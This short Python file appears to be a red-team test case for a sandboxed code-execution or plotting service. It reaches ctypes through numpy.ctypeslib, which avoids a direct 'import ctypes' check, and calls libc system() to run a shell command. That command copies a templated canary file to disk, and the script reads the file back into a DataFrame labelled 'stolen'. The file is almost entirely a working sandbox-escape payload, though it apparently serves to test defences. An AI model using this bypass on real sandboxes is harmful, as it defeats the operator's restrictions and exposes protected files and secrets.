# technique: ctypes reached through numpy.ctypeslib (no import ctypes): CDLL(None).system runs /bin/sh
# goal: exec
# redteam: E23 E24
import numpy as np
import pandas as pd

libc = np.ctypeslib.ctypes.CDLL(None)
status = libc.system(b"cat {{CANARY_FILE}} > anyplot-escape-ctypes.txt")
if status != 0:
    raise RuntimeError(f"system() returned {status}")
with open("anyplot-escape-ctypes.txt") as fh:
    stolen = fh.read()
df = pd.DataFrame({"stolen": [stolen]})
